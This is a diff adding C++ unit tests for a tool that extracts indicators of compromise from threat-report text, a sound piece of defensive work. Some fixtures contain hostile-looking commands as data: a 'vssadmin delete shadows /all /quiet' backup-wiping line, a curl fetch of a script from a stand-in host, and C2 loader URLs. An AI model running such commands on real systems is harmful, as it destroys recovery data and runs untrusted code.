@@ -190,6 +190,194 @@ TEST(VendorForms, AHashWhereARemarkIsExpectedIsAValueAndAFilesNameIsNoHost) {
                                        text({"sha256 ", sha256})}));
 }
 
+TEST(VendorForms, AWalletThatBeginsAnItemIsMeantButForAVictimsOrAGift) {
+  EXPECT_EQ(values_of(read("## Onchain\n\n- 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe - moved on in May\n"
+                           "- 0x52908400098527886E0F7030069857D2E4169EE7 - Victim\n"
+                           "\n## Donations\n\n- 0x8617E340B3D01FA5F11F306F4090FD50E238070D\n")),
+            (Values{"eth_address 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae"}));
+  EXPECT_EQ(values_of(read("The exploiter sent all of it to 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe in May.\n")),
+            (Values{"eth_address 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae"}));
+}
+
+TEST(VendorForms, AKeyOrABuildIsNoFile) {
+  EXPECT_EQ(values_of(read(text({"It decrypts the rest with the AES key ", md5, ", which it holds.\n"}))), Values{});
+  EXPECT_EQ(values_of(read(text({"# Sandfly\n\n```\nrun(decrypt('", md5, "'))\n```\n"}))), Values{});
+  EXPECT_EQ(values_of(read(text({"## IOCs\n\n- Build ID (ELF): `", sha1, "`\n"}))), Values{});
+}
+
+TEST(VendorForms, WhatIsListedUnderCertificatesOfServersIsOne) {
+  EXPECT_EQ(values_of(read(text({"# Indicators\n\n## TLS certificate\n\n```\n", sha1, "\n```\n"}))),
+            (Values{text({"certificate ", sha1})}));
+}
+
+TEST(VendorForms, FilesLeadLinesOfAListOfIndicators) {
+  EXPECT_EQ(values_of(read("# Indicators of compromise\n\n- `moth.exe`\n- moth.dll - loader\n- tools/run.ps1\n"
+                           "- moth.exe was seen in May\n- `svchost.exe`\n- moth.php?id=2\n")),
+            (Values{"file_name moth.dll", "file_name moth.exe", "file_path tools/run.ps1"}));
+  EXPECT_EQ(values_of(read("# Malware\n\n- `index.js`: where it begins\n")), Values{});
+}
+
+TEST(VendorForms, ANameOfAFileInABlockOfCodeMayHoldBlanks) {
+  EXPECT_EQ(values_of(read("# Indicators\n\n## File names\n\n```\nInvoice of May.docx\nmoth.exe -o out.txt\n"
+                           "C:\\temp\\moth.exe # loader\n```\n")),
+            (Values{"file_name Invoice of May.docx", R"(file_path C:\temp\moth.exe)"}));
+}
+
+TEST(VendorForms, NamesOfCodeOfAppsAndOfHiddenAddressesAreNoHosts) {
+  EXPECT_EQ(values_of(read("# Indicators\n\n| Property | Value |\n|---|---|\n| App | `com.moth.flutterby` |\n")),
+            Values{});
+  EXPECT_EQ(values_of(read("# C2 traffic\n\n```\nrequests.post\nsubprocess.run\nIP: 203.xxx.xxx.xxx\n```\n")),
+            Values{});
+}
+
+TEST(VendorForms, AVerbBeforePackagesIsNone) {
+  EXPECT_EQ(values_of(read("## Remove these malicious packages\n\n- **Uninstall** `moth-core`\n- moth-cli `1.2.0`\n")),
+            (Values{"package moth-cli"}));
+}
+
+TEST(VendorForms, AHostMayStandInBracketsAsAWhole) {
+  EXPECT_EQ(values_of(read("It loads `http://[45.9.148.7:8080]/dl` and asks `https://[a.moth.test]:8083/ip`.\n")),
+            (Values{"url http://45.9.148.7:8080/dl", "url https://a.moth.test:8083/ip"}));
+  EXPECT_EQ(values_of(read("|mod|link|\n|---|---|\n|Moth| `[files.moth.test]/mods/41` |\n")),
+            (Values{"url files.moth.test/mods/41"}));
+}
+
+TEST(VendorForms, AListOfPackagesIsLedInByTheParagraphAboveIt) {
+  EXPECT_EQ(values_of(read("# Notice\n\nWe were told of two malicious crates.\n\nThese crates were:\n"
+                           "- `moth_core` - published in May\n- `moth_web` - published in June\n")),
+            (Values{"package moth_core", "package moth_web"}));
+  EXPECT_EQ(values_of(read("# Notice\n\nWe looked at our build.\n\nIts crates are:\n- `moth_core`\n")), Values{});
+}
+
+TEST(VendorForms, OptionsOfACommandAreNoPath) {
+  EXPECT_EQ(values_of(read("# Malware\n\n1. `vssadmin.exe delete shadows /all /quiet` before it starts\n")), Values{});
+}
+
+TEST(VendorForms, WhoReceivedAMailIsNoSender) {
+  EXPECT_EQ(values_of(read("The phishing email was received by jane@acme.test in May.\n")), Values{});
+}
+
+TEST(VendorForms, ASentenceWithAColonIsNoHeading) {
+  EXPECT_EQ(values_of(read("# Day\n\nThey checked their IP address:\n\nNothing more.\n\nThey ran it:\n\n"
+                           "C:\\tools\\python.exe  main.py\n")),
+            Values{});
+}
+
+TEST(VendorForms, WhatAProgramContactsIsMeant) {
+  EXPECT_EQ(values_of(read("It attempts to contact a page (`https://a.moth.test/ip`) in May.\n")),
+            (Values{"url https://a.moth.test/ip"}));
+}
+
+TEST(VendorForms, ANamedSampleOfAListOfIndicatorsIsAFile) {
+  EXPECT_EQ(values_of(read("# IOCs\n\n## Sample\n- Sample name: `Moth.exe`\n")), (Values{"file_name Moth.exe"}));
+}
+
+TEST(VendorForms, APackageMayBePartedFromItsVersionsByAColon) {
+  EXPECT_EQ(values_of(read("## Compromised packages\n\n- moth-core: 1.2.3, 1.2.4 (popular)\n- @moth/web: 0.4.0\n"
+                           "- moth-cli: not installed\n")),
+            (Values{"package @moth/web", "package moth-core"}));
+}
+
+TEST(VendorForms, UrlsOfAConfigurationArePartedByCommas) {
+  EXPECT_EQ(values_of(read("# Sandfly\n\n```\nA:http://a.moth.test/x1,B:http://b.moth.test/x2,MX:1\n```\n")),
+            (Values{"url http://a.moth.test/x1", "url http://b.moth.test/x2"}));
+}
+
+TEST(VendorForms, WhatAKeyOfTheRegistryIsSetToIsNoPartOfIt) {
+  EXPECT_EQ(
+      values_of(read("# Indicators\n\n## Registry keys\n\n```\nHKCU\\Software\\Run\\Moth -> C:\\moth.exe\n```\n")),
+      (Values{R"(registry_key HKCU\Software\Run\Moth)"}));
+}
+
+TEST(VendorForms, ASiteThatIsCalledAnImpostorIsMeant) {
+  EXPECT_EQ(values_of(read("The site **https://moth-tool.com/** is impersonating this project, which lives at "
+                           "https://moth.tools/ since May.\n")),
+            (Values{"url https://moth-tool.com/"}));
+}
+
+TEST(VendorForms, ALineOfTildesBelowAHeadingFencesOffNothing) {
+  EXPECT_EQ(values_of(read("Report\n======\n\nWhat happened\n~~~~~~~~~~~~~\n\nNothing.\n\nMalicious packages\n"
+                           "~~~~~~~~~~~~~~~~~~\n\n- moth-core\n")),
+            (Values{"package moth-core"}));
+  EXPECT_EQ(values_of(read(
+                "# Report\n\n## C2 servers\n\nThey are:\n~~~\na.moth.test\n~~~\n\nThe site b.moth.test is ours.\n")),
+            (Values{"domain a.moth.test"}));
+}
+
+TEST(VendorForms, ARemarkInAProgramIsNoHeading) {
+  EXPECT_EQ(values_of(read("Report\n======\n\n1. Look:\n\n   .. code-block:: bash\n\n      # Find malicious packages\n"
+                           "      npm list\n\nOthers\n------\n\n- `moth-core` - clean\n")),
+            Values{});
+}
+
+TEST(VendorForms, ATableOfSettingsSaysWhatItsValuesAre) {
+  EXPECT_EQ(values_of(read(text({"# Configuration\n\n| Setting | Value |\n|---|---|\n"
+                                 "| Hosts | `127.0.0.1`, `a.moth[.]test`, `b.moth[.]test` |\n| Mutex | `Qs81xT` |\n"
+                                 "| Certificate | X.509, `CN=Server`, SHA-1 `",
+                                 sha1, "` |\n| Username | jane |\n"}))),
+            (Values{text({"certificate ", sha1}), "domain a.moth.test", "domain b.moth.test", "mutex Qs81xT"}));
+}
+
+TEST(VendorForms, BesideAHashTheFileIsItsName) {
+  EXPECT_EQ(values_of(read(text({"# Indicators\n\n| File | Hash |\n|---|---|\n| Moth x64 | `", sha256, "` |\n"}))),
+            (Values{text({"sha256 ", sha256})}));
+}
+
+TEST(VendorForms, ADefangedFileIsNoHost) {
+  EXPECT_EQ(values_of(read("# Sandfly\n\nIt asks moth[.]test for the file 41[.]dat in May.\n")),
+            (Values{"domain moth.test"}));
+}
+
+TEST(VendorForms, APathInCodeKeepsItsTildeAndItsBlanks) {
+  EXPECT_EQ(values_of(read("# Indicators\n\n- `~/.moth/User Name.txt`\n")),
+            (Values{"file_path ~/.moth/User Name.txt"}));
+}
+
+TEST(VendorForms, WhatIsSetOffAsLegitimateIsNotMeant) {
+  EXPECT_EQ(
+      values_of(read("The suspicious host called moth[.]test and the domain `certs.sand.test` (legitimate) in May.\n")),
+      (Values{"domain moth.test"}));
+}
+
+TEST(VendorForms, AListOfClassesNamesNoMutex) {
+  EXPECT_EQ(values_of(read("# Malware\n\nIt uses `Mutex`, `GZipStream` and `SslStream`.\n")), Values{});
+}
+
+TEST(VendorForms, AHashMayLinkToItsReport) {
+  EXPECT_EQ(values_of(read(text({"MD5 : [", md5, "](https://scan.test/#/file/1)\n"}))), (Values{text({"md5 ", md5})}));
+}
+
+TEST(VendorForms, AnItemLeadsInTheDeeperOnes) {
+  EXPECT_EQ(values_of(read("# Advice\n\n- Update to a sound release:\n  - a.sand.test\n- Block the malicious domains:\n"
+                           "  - `45.9.148.7` (moth.test)\n- More on these domains at:\n"
+                           "  - https://b.sand.test/report\n- Read on at c.sand.test\n")),
+            (Values{"domain moth.test", "ipv4 45.9.148.7"}));
+}
+
+TEST(VendorForms, LinesOfALabelAndAValueAreAList) {
+  EXPECT_EQ(values_of(read("# Report\n\n**Domains used by the attacker**\nThese were found in the log.\n"
+                           "domain one: a.moth.test:8080\ndomain two: b.moth.test\n")),
+            (Values{"domain a.moth.test", "domain b.moth.test"}));
+}
+
+TEST(VendorForms, WhereAProgramCopiesItselfIsMeant) {
+  EXPECT_EQ(values_of(read("The dropper copies itself to %System%\\moth.exe at once.\n")),
+            (Values{R"(file_path %System%\moth.exe)"}));
+}
+
+TEST(VendorForms, InATableTheValueSetAsCodeStandsBeforeARemark) {
+  EXPECT_EQ(values_of(read("# Attack\n\n## IOCs\n\n| Type | Value |\n|---|---|\n"
+                           "| Windows path | `C:\\Moth\\m.exe` (a renamed shell) |\n"
+                           "| Windows artefact | `C:\\Gnat\\g.exe` (a renamed shell) |\n"
+                           "| Intruder | `gnat` (mail: `gnat@moth.example`) |\n")),
+            (Values{"email gnat@moth.example", R"(file_path C:\Gnat\g.exe)", R"(file_path C:\Moth\m.exe)"}));
+}
+
+TEST(VendorForms, QuestionsOfAnExerciseAreNoContact) {
+  const std::string command = "### 1. Which command was run?\n\n```sh\ncurl https://moth.test/m.sh\n```\n";
+  EXPECT_EQ(values_of(read("# Attack\n\n## Project questions\n\n" + command)), (Values{"url https://moth.test/m.sh"}));
+}
+
 struct HeadCase {
   std::string_view name;
   std::string text, title, publisher, published;
@@ -205,6 +393,9 @@ TEST(VendorForms, TheHeadSaysWhoWroteAndWhen) {
        "2024-03-14"},
       {"fields", "---\ntitle: Sandfly\nauthor: Jane Doe\nsource: Acme News\ndate: 2024-03-14\n---\nText.\n", "Sandfly",
        "Acme News", "2024-03-14"},
+      {"fields_of_toml",
+       "+++\ntitle = \"Sandfly\"\ndate = 2024-03-14\nteam_url = \"https://acme.test/team\"\n+++\nText.\n", "Sandfly",
+       "", "2024-03-14"},
       {"deed", "# Sandfly\n\nOn 2 December 2024, attackers published malicious versions.\n", "Sandfly", "", ""},
   };
   for (const HeadCase& row : cases) {
